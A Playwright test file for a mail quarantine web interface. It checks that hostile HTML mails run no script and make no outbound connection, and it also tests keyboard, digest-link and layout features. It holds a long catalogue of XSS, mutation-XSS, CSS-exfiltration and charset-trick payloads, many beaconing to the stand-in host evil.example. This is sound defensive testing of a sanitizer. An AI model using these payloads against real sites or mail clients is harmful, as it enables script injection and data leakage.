/**
 * The page in a real Chromium: hostile mails are looked at in every way there is, and no script of theirs may have run
 * and no connection may have left. Their host leads to a trap, which a control shows to be working; Chromium's own
 * hosts to nowhere.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { simpleParser } from 'mailparser';
import type { Locator, Page } from 'playwright-core';
import { composeDigest } from '../../src/digest/compose.js';
import { Links } from '../../src/digest/links.js';
import { dispositionOf } from '../../src/quarantine/look/disposition.js';
import { parseRef } from '../../src/quarantine/disk/mail-ref.js';
import { until } from '../support/until.js';
import { addressOf, openBrowser, openPages } from './browser.js';
import { admin, keep, type KeepOptions } from './support.js';

/** Each tries to say so when it runs. */
const call = "window.top.owned=1;document.title='owned';new Image().src='http://evil.example/ran'";
const script = `<script>${call}</script>`;

const breakouts = [
  script,
  `"><img src=x onerror="${call}">`,
  `'><svg onload="${call}">`,
  `</title></textarea></style></script>${script}`,
  `javascript:${call}`,
  `\u2028${script}\u2029`,
  `--><img src=http://evil.example/x onerror="${call}">`,
  '{{constructor.constructor("window.top.owned=1")()}}',
  '&lt;script&gt;window.top.owned=1&lt;/script&gt;',
];

const bodies: readonly string[] = [
  script,
  `<img src="http://evil.example/pixel.gif" onerror="${call}"><img src=x onerror="${call}">`,
  `<svg onload="${call}"><animate onbegin="${call}" attributeName=x dur=1s></svg><math><mtext><mglyph><style><img src=x onerror="${call}"></style></mglyph></mtext></math>`,
  '<link rel=preconnect href="http://evil.example/"><link rel=dns-prefetch href="//evil.example"><link rel=prefetch href="http://evil.example/p"><LINK REL=stylesheet HREF="http://evil.example/s.css">',
  '<meta http-equiv=refresh content="0;url=http://evil.example/meta"><base href="http://evil.example/">',
  `<meta http-equiv="Content-Security-Policy" content="script-src *">${script}`,
  '<style>@import url(http://evil.example/i.css);body{background:url(http://evil.example/b.png)}@font-face{font-family:x;src:url(http://evil.example/f)}*{font-family:x}</style>text',
  '<iframe src="http://evil.example/f"></iframe><object data="http://evil.example/o"></object><embed src="http://evil.example/e"><frameset><frame src="http://evil.example/fr"></frameset>',
  `<iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe><a href="javascript:${call}" autofocus onfocus="${call}">x</a>`,
  `<form action="http://evil.example/form"><input name=a autofocus onfocus="${call}"><button>go</button></form>`,
  '<video poster="http://evil.example/v" src="http://evil.example/v.mp4" autoplay></video><audio src="http://evil.example/a" autoplay></audio><img srcset="http://evil.example/1x 1x"><picture><source srcset="http://evil.example/p"></picture>',
  '<table background="http://evil.example/t"><tr><td background="http://evil.example/td">x</td></tr></table><body background="http://evil.example/body">',
  `<template>${script}</template><noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`,
  // Markup that a parser reads another way the second time: after DOMPurify's, Mutation XSS Cheatsheet's and
  // html5sec's cases.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${call}"></style></annotation-xml></math>`,
  `<svg><style>&lt;img src=x onerror="${call}"&gt;</style><desc><template><s><template><style>&lt;img src onerror="${call}"&gt;</style></template></s></template></desc></svg>`,
  `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='1' onerror='${call}'/&gt;&lt;/svg&gt;#x"/><foreignObject><iframe src="javascript:${call}"></iframe></foreignObject><image href="http://evil.example/svgimage"/><filter id=f><feImage href="http://evil.example/fe"/></filter><a xlink:href="javascript:${call}"><text y=20>x</text></a><set attributeName=href to="javascript:${call}"/></svg>`,
  `<xmp><p title="</xmp>${script}"></xmp><plaintext>${script}`,
  `<!--><img src=x onerror="${call}">--><!-- --!><img src=x onerror="${call}"><![CDATA[><img src=x onerror="${call}">]]><?xml-stylesheet href="http://evil.example/pi.css"?>`,
  `<details open ontoggle="${call}">x</details><marquee onstart="${call}">x</marquee><input type=image src="http://evil.example/input" onerror="${call}"><style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${call}">x</b><div popover id=p onbeforetoggle="${call}">x</div><select><button><selectedcontent onclick="${call}">`,
  // Sent by style sheets alone.
  `<style>input[value^="s"]{background:url(http://evil.example/css-s)}p:has(b){background:image-set("http://evil.example/set" 1x)}p::after{content:url(http://evil.example/content)}li{list-style:url(http://evil.example/li)}*{cursor:url(http://evil.example/cursor),auto;filter:url(http://evil.example/filter#x);mask:url(http://evil.example/mask);border-image:url(http://evil.example/border);--x:url(http://evil.example/var);shape-outside:url(http://evil.example/shape)}@import "http://evil.example/import.css";@namespace url(http://evil.example/ns);</style><input value=secret><ul><li>x</ul><p><b>x</b></p><p style="background:u\\72l(http://evil.example/escaped);background:url('//evil.example/relative')">x</p>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}"><meta http-equiv=refresh content="0;url=data:text/html,${encodeURIComponent(script)}"><meta http-equiv="Set-Cookie" content="postern_session=x"><meta http-equiv=Link content="<http://evil.example/link>;rel=preload;as=image"><meta http-equiv="x-dns-prefetch-control" content=on><meta name=referrer content=unsafe-url>`,
  '<link/rel=preload/as=image/href=http://evil.example/preload><link\frel=modulepreload href="http://evil.example/module"><LiNk rel="dns-prefetch preconnect" href=http://evil.example><link rel=prerender href="http://evil.example/prerender"><link rel=icon href="http://evil.example/icon"><link rel=manifest href="http://evil.example/manifest">',
  `<base href="javascript:/a/-${call}//" target=_top><a href="#">x</a><object type="text/html" data="javascript:${call}"><param name=src value="http://evil.example/param"></object><embed src="data:text/html,${encodeURIComponent(script)}"><applet code=x codebase="http://evil.example/"></applet><fencedframe src="http://evil.example/fenced"></fencedframe><portal src="http://evil.example/portal"></portal>`,
  `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://evil.example/speculation"]}]}</script><script type=importmap>{"imports":{"x":"http://evil.example/x.js"}}</script><script type=module src="http://evil.example/m.js"></script>`,
  '<img src="x" srcset="http://evil.example/srcset 2x, //evil.example/b 3x" sizes=1px lowsrc="http://evil.example/low" dynsrc="http://evil.example/dyn"><image src="http://evil.example/image"><video><track default src="http://evil.example/track"></video><body background="//evil.example/b"><html manifest="http://evil.example/m"><bgsound src="http://evil.example/s"><layer src="http://evil.example/l"></layer>',
  '<a href="http://evil.example/ping" ping="http://evil.example/ping" attributionsrc="http://evil.example/attribution">x</a><img attributionsrc="http://evil.example/attribution" src="data:,">',
  `<img src="cid:x" onerror="${call}"><img src=cid:x/onerror=${call}><a href="cid:x">x</a>`,
  `<x-y onclick="${call}" style="position:fixed;inset:0;background:red">all over the page</x-y>`,
];

const hostile: readonly KeepOptions[] = [
  ...breakouts.map((evil): KeepOptions => ({
    subject: evil,
    from: `${evil}@evil.example`,
    helo: evil,
    host: evil,
    reason: evil,
    plugin: evil,
    spf: evil,
  })),
  ...bodies.map((html): KeepOptions => ({
    text: `Subject: html\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`,
  })),
  ...bodies.slice(0, 3).map((html): KeepOptions => ({ text: `Subject: text\r\n\r\n${html}\r\n` })),
  // Character sets in which markup looks like something else.
  {
    text: `Subject: charset\r\nContent-Type: text/html; charset=utf-7\r\n\r\n+ADw-script+AD4-${call}+ADw-/script+AD4-\r\n`,
  },
  {
    text: `Subject: charset\r\nContent-Type: text/html; charset=iso-2022-jp\r\n\r\n<a title="\x1b$B">\x1b(B<img src=x onerror="${call}">\r\n`,
  },
  {
    text: `Subject: charset\r\nContent-Type: text/html; charset="x\\"><script>"\r\n\r\n\xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0${script}\r\n`,
  },
  // Fields: a name that is markup, words that decode to markup, continued and encoded parameters (RFC 2231).
  {
    text: `X-<img/src=x/onerror=window.top.owned=1>: ${script}\r\nSubject: =?utf-8?B?${Buffer.from(breakouts[1] ?? '').toString('base64')}?=\r\nFrom: "${script}" <x@evil.example>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/x; name*0*=utf-8''%3Cimg%20src=x%20; name*1=onerror=window.top.owned=1; name*2*=%3E.html\r\nContent-Disposition: attachment; filename*=utf-8''%22%3E%3Cscript%3Ewindow.top.owned%3D1%3C%2Fscript%3E%E2%80%AElmth.html\r\n\r\n${script}\r\n--b--\r\n`,
  },
  {
    text: `Subject: names\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html; charset=x"><script>\r\nContent-Disposition: attachment; filename="<img src=x onerror=window.top.owned=1>.html"\r\n\r\n${script}\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-Disposition: inline; filename=x.svg\r\nContent-ID: <c>\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>\r\n--b--\r\n`,
  },
];

/** So many mails at a time, a page each: what one does late, it may do until the others have been quiet. */
const groupSize = 8;

test('no script of a mail runs and no connection leaves, whatever is looked at', { timeout: 600_000 }, async (t) => {
  const opened = await openBrowser(t);
  if (!opened) return;
  const { site, page } = opened;
  const { show, caught } = await openPages(opened, groupSize);
  const addresses = await Promise.all(hostile.map(async (mail) => addressOf(site, await keep(site, mail))));

  await t.test('on the pages that show many mails', async () => {
    const evil = '/?q=%22%3E%3Cscript%3Ewindow.owned%3D1%3C%2Fscript%3E';
    await show(['/', '/charts', '/domains', evil].map((where) => site.origin + where));
    assert.deepEqual(await caught(), []);
  });
  for (let from = 0; from < hostile.length; from += groupSize)
    await t.test(`on the pages of mail ${from} and those that follow`, async () => {
      const group = addresses.slice(from, from + groupSize);
      const what = JSON.stringify(hostile.slice(from, from + groupSize), null, 1);
      await show(group, openTabs);
      assert.deepEqual(await caught(), [], what);
      // The frame's document by itself, as an attacker might get somebody to open it.
      await show(group.map((address) => `${address}/html`));
      assert.deepEqual(await caught(), [], `alone: ${what}`);
    });
  await t.test('and the trap would have noticed', async () => {
    const html = '<img src="http://evil.example/control">';
    const name = await keep(site, { text: `Subject: x\r\nContent-Type: text/html\r\n\r\n${html}\r\n` });
    await show(new Array<string>(groupSize).fill(`${addressOf(site, name)}?images=1`), openTabs);
    assert.ok((await caught()).includes('GET /control HTTP/1.1'));
    const body = `${script}<img src="http://evil.example/seen">`;
    await page.context().route('**/unguarded', (route) => route.fulfill({ contentType: 'text/html', body }));
    await show(new Array<string>(groupSize).fill(`${site.origin}/unguarded`));
    const noticed = await caught();
    const wanted = Array.from({ length: groupSize }, (_, at) => `page ${at}: a script ran`);
    for (const what of [...wanted, 'GET /seen HTTP/1.1', 'GET /ran HTTP/1.1'])
      assert.ok(noticed.includes(what), noticed.join('\n'));
  });
});

/** Each tab in turn; the one with the mail's HTML, in a frame, stays open. */
async function openTabs(page: Page): Promise<void> {
  const open = async (tab: Locator): Promise<void> => {
    await tab.evaluate((details) => {
      (details as unknown as { open: boolean }).open = true;
    });
  };
  for (const tab of await page.locator('.tabs > details').all()) await open(tab);
  const html = page.locator('.tabs > details#html');
  if ((await html.count()) === 0) return;
  await open(html);
  const frame = await (await page.locator('iframe').elementHandle())?.contentFrame();
  await frame?.waitForURL((url) => url.protocol !== 'about:');
}

test(
  'remote images are loaded when they are asked for, that once, and still no script',
  { timeout: 120_000 },
  async (t) => {
    const opened = await openBrowser(t);
    if (!opened) return;
    const { site, trap, page } = opened;
    const name = await keep(site, {
      text: `Subject: x\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/pixel.gif">${script}<link rel=stylesheet href="http://evil.example/s.css">\r\n`,
    });
    await page.goto(addressOf(site, name));
    await page.getByText('HTML', { exact: true }).click();
    await page.waitForTimeout(500);
    assert.deepEqual(
      trap.seen.filter((line) => line.startsWith('GET')),
      [],
    );
    await page.getByText('Load remote images once').click();
    await until(() => trap.seen.some((line) => line.startsWith('GET')));
    await page.waitForLoadState('networkidle');
    await page.waitForTimeout(500);
    const asked = trap.seen.filter((line) => line.startsWith('GET'));
    assert.ok(asked.length > 0 && asked.every((line) => line.includes('/pixel.gif')), asked.join());
    await page.goto(addressOf(site, name));
    await page.getByText('HTML', { exact: true }).click();
    await page.waitForTimeout(500);
    assert.equal(trap.seen.filter((line) => line.startsWith('GET')).length, asked.length);
  },
);

test('a click on what a mail shows leads nowhere', { timeout: 120_000 }, async (t) => {
  const opened = await openBrowser(t);
  if (!opened) return;
  const { site, trap, page, browser } = opened;
  const before = trap.seen.length;
  const wide = 'style="display:block;height:30px;width:300px"';
  const name = await keep(site, {
    text: `Subject: x\r\nContent-Type: text/html\r\n\r\n${['_self', '_top', '_blank', '_parent', 'x'].map((target) => `<a ${wide} target=${target} href="http://evil.example/${target}" ping="http://evil.example/ping">a</a>`).join('')}<a ${wide} target=_top href="javascript:${call}">a</a><a ${wide} target=_top href="/logout">a</a><a ${wide} download href="http://evil.example/download">a</a><form action="http://evil.example/form" method=post target=_top><button ${wide}>b</button><button ${wide} formaction="javascript:${call}">b</button></form>\r\n`,
  });
  await page.goto(addressOf(site, name));
  const at = page.url();
  await page.getByText('HTML', { exact: true }).click();
  const things = page.frameLocator('iframe').locator('a, button');
  await things.last().waitFor();
  const count = await things.count();
  assert.equal(count, 10);
  for (let i = 0; i < count; i++) {
    await things.nth(i).click({ force: true, timeout: 5_000, noWaitAfter: true });
    await page.waitForTimeout(100);
    if (page.frames().some((frame) => frame.url().startsWith('chrome-error:'))) {
      // The frame was to go elsewhere, and may not: what it showed is shown anew for the next.
      await page.goto(addressOf(site, name));
      await page.getByText('HTML', { exact: true }).click();
      await things.last().waitFor();
    }
  }
  await page.waitForTimeout(300);
  assert.equal(page.url(), at);
  assert.equal(browser.contexts().flatMap((context) => context.pages()).length, 1);
  assert.equal(await page.evaluate('window.owned'), undefined);
  assert.deepEqual(trap.seen.slice(before), []);
});

/** Two by two, red. */
const png = 'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4z8AARAwQCgAf7gP9i18U1AAAAABJRU5ErkJggg==';

test(
  'the pictures a mail brings along are shown, but for SVG and what only says it is one',
  { timeout: 120_000 },
  async (t) => {
    const opened = await openBrowser(t);
    if (!opened) return;
    const { site, trap, page } = opened;
    const before = trap.seen.length;
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${call}"><image href="http://evil.example/svg"/></svg>`;
    const part = (cid: string, type: string, base64: string): string =>
      `--b\r\nContent-Type: ${type}\r\nContent-ID: <${cid}>\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64}\r\n`;
    const html = ['good', 'octets', 'svg', 'liar']
      .map((cid) => `<img id=${cid} src="cid:${cid}" onerror="${call}">`)
      .join('');
    const name = await keep(site, {
      text: `Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}<p style="background:url(cid:svg)">x</p>\r\n${part('good', 'image/png', png)}${part('octets', 'application/octet-stream', png)}${part('svg', 'image/svg+xml', Buffer.from(svg).toString('base64'))}${part('liar', 'image/png', Buffer.from(svg).toString('base64'))}--b--\r\n`,
    });
    await page.goto(addressOf(site, name));
    await page.getByText('HTML', { exact: true }).click();
    const frame = page.frameLocator('iframe');
    const widthOf = (cid: string): Promise<unknown> =>
      frame.locator(`#${cid}`).evaluate((image) => (image as unknown as { naturalWidth: number }).naturalWidth);
    await frame.locator('#liar').waitFor({ state: 'attached' });
    await page.waitForTimeout(500);
    for (const [cid, width] of [
      ['good', 2],
      ['octets', 2],
      ['svg', 0],
      ['liar', 0],
    ] as const)
      assert.equal(await widthOf(cid), width, cid);
    assert.equal(await page.evaluate('window.owned'), undefined);
    assert.deepEqual(trap.seen.slice(before), []);
  },
);

test('keys move, select, open, release and delete; new mail comes in by itself', { timeout: 120_000 }, async (t) => {
  const opened = await openBrowser(t);
  if (!opened) return;
  const { site, page } = opened;
  for (const subject of ['one', 'two', 'three']) await keep(site, { subject });
  await page.goto(site.origin);
  await keep(site, { subject: 'four' });
  await page.locator('#rows li', { hasText: 'four' }).waitFor();
  await page.keyboard.press('j');
  await page.keyboard.press('j');
  await page.keyboard.press('x');
  assert.equal(await page.locator('#chosen').textContent(), '1 selected');
  await page.keyboard.press('r');
  await page.getByText('released: ').waitFor();
  assert.match(site.delivered().join(), /Subject: three/);
  page.on('dialog', (dialog) => void dialog.accept());
  await page.keyboard.press('j');
  await page.keyboard.press('#');
  await page.getByText('Deleted one mail').waitFor();
  assert.equal(await page.locator('#rows li').count(), 3);
  await page.keyboard.press('j');
  await page.keyboard.press('Enter');
  await page.getByText('SMTP', { exact: false }).first().or(page.locator('.why')).first().waitFor();
  await page.locator('.lists button', { hasText: 'sender' }).first().click();
  const marker = path.join(site.srv, 'example.com/whitelisted/senders/a@example.net');
  await page.getByText(`Made ${marker}`).waitFor();
  assert.ok(fs.existsSync(marker));
  await page.getByRole('button', { name: 'Undo' }).click();
  await page.getByText(`Removed ${marker}`).waitFor();
  assert.ok(!fs.existsSync(marker));
});

test('a link in a digest mail asks, releases its mail, and is used up then', { timeout: 120_000 }, async (t) => {
  const state = fs.mkdtempSync(path.join(os.tmpdir(), 'postern-digest-'));
  t.after(() => fs.rmSync(state, { recursive: true }));
  const opened = await openBrowser(t, ['digest_url=https://mail.test.example', `state=${state}`]);
  if (!opened) return;
  const { site, trap, page } = opened;
  const before = trap.seen.length;
  await page.context().clearCookies();
  const subject = `wanted ${script}`;
  const ref = parseRef(
    await keep(site, { subject, from: `${'y'.repeat(60)}@sender.example`, reason: 'z'.repeat(300) }),
  );
  assert.ok(ref);
  const { entry } = dispositionOf(site.spam, ref);
  assert.ok(entry);
  const expires = new Date(Date.now() + 3_600_000);
  const link = `${site.origin}/digest/${new Links(state).make({ ref, expires: expires.getTime() })}`;
  const about = { domain: 'example.com', hostname: 'mx.test.example', day: '2026-11-24', mails: 1, expires };
  const { html } = await simpleParser(await composeDigest({ ...about, rows: [{ entry, link }] }));
  await page.setViewportSize({ width: 360, height: 700 });
  await page.setContent(String(html));
  await page.getByText(subject).waitFor();
  await page.getByRole('link', { name: 'Release …' }).click();
  await page.getByRole('heading', { name: 'Release this mail?' }).waitFor();
  await page.getByText(subject).waitFor();
  assert.ok(Number(await page.evaluate('document.documentElement.scrollWidth')) <= 360);
  assert.equal(site.delivered().length, 0);
  await page.getByRole('button', { name: 'Release' }).click();
  await page.getByRole('heading', { name: 'Released', exact: true }).waitFor();
  assert.equal(site.delivered().length, 1);
  const other = new Links(path.join(state, 'other')).make({ ref, expires: expires.getTime() });
  for (const [address, title] of [
    [link, 'Released before'],
    [`${site.origin}/digest/${new Links(state).make({ ref, expires: Date.now() - 1 })}`, 'This link has ended'],
    [`${site.origin}/digest/${other}`, 'This link does not work'],
    [link.slice(0, -1), 'This link does not work'],
  ] as const) {
    await page.goto(address);
    await page.getByRole('heading', { name: title }).waitFor();
    await page.getByText('whoever runs the mail server').waitFor();
    assert.equal(await page.getByRole('button').count(), 0, title);
  }
  assert.equal(site.delivered().length, 1);
  assert.deepEqual([await page.evaluate('window.owned'), trap.seen.slice(before)], [undefined, []]);
});

test(
  'a domain’s page says what would be right, and makes it; zones are saved; the audit has all of it',
  { timeout: 120_000 },
  async (t) => {
    const opened = await openBrowser(t);
    if (!opened) return;
    const { site, page } = opened;
    await page.goto(`${site.origin}/domains/example.com`);
    const clients = page.locator('section', {
      has: page.getByRole('heading', { name: 'Clients that are refused', exact: true }),
    });
    await clients.getByRole('textbox').fill('192.0.2.0/24');
    await clients.getByRole('button', { name: 'Add' }).click();
    await page.getByText('never matches: call it 192.0.2.0_24').waitFor();
    await page.getByRole('button', { name: 'Make 192.0.2.0_24' }).click();
    await page.getByText(`Made ${site.srv}/example.com/blacklisted/ips/192.0.2.0_24`).waitFor();
    const zones = page.locator('section', { has: page.getByRole('heading', { name: 'Lists of client addresses' }) });
    await zones.getByRole('textbox').fill(`<b>${script}`);
    await zones.getByRole('button', { name: 'Save' }).click();
    await page.getByText('Nothing is changed: line 1').waitFor();
    await zones.getByRole('textbox').fill('');
    // The keys of the page are letters here.
    await zones.getByRole('textbox').pressSequentially('# ours? j/k\nbl.example.org');
    await zones.getByRole('button', { name: 'Save' }).click();
    await page.getByText(`Wrote ${site.srv}/example.com/zones`).waitFor();
    assert.equal(fs.readFileSync(path.join(site.srv, 'example.com/zones'), 'utf8'), '# ours? j/k\nbl.example.org\n');
    assert.equal(await zones.getByRole('textbox').inputValue(), '# ours? j/k\nbl.example.org\n');
    await page.getByRole('link', { name: 'Audit' }).click();
    assert.deepEqual((await page.locator('.audit .what').allTextContents()).slice(0, 2), [
      'file written',
      'marker made',
    ]);
    await page.getByRole('searchbox').fill('zones');
    await page.getByRole('button', { name: 'Search' }).click();
    await page.waitForURL(/q=zones/);
    assert.equal(await page.locator('.audit li').count(), 1);
    assert.equal(await page.evaluate('window.owned'), undefined);
  },
);

test('a log-in link opened in a tab that shows the log-in page logs in', { timeout: 120_000 }, async (t) => {
  const opened = await openBrowser(t);
  if (!opened) return;
  const { site, page } = opened;
  await page.context().clearCookies();
  await page.goto(`${site.origin}/charts`);
  await page.getByLabel('Token').waitFor();
  await page.evaluate(`location.hash = 'token=${admin}'`);
  await page.waitForURL(`${site.origin}/charts`);
  await page.getByRole('heading', { name: /refused$/ }).waitFor();
});

test('nothing is wider than a phone', { timeout: 120_000 }, async (t) => {
  const opened = await openBrowser(t);
  if (!opened) return;
  const { site, page } = opened;
  const name = await keep(site, {
    subject: 'x'.repeat(300),
    from: `${'y'.repeat(200)}@example.net`,
    reason: 'z'.repeat(300),
    spf: 'fail',
  });
  await page.setViewportSize({ width: 360, height: 700 });
  for (const where of [
    site.origin,
    addressOf(site, name),
    `${site.origin}/charts`,
    `${site.origin}/domains/example.com`,
    `${site.origin}/audit`,
  ]) {
    await page.goto(where);
    const width = await page.evaluate('document.documentElement.scrollWidth');
    assert.ok(Number(width) <= 360, `${where}: ${String(width)}`);
  }
});
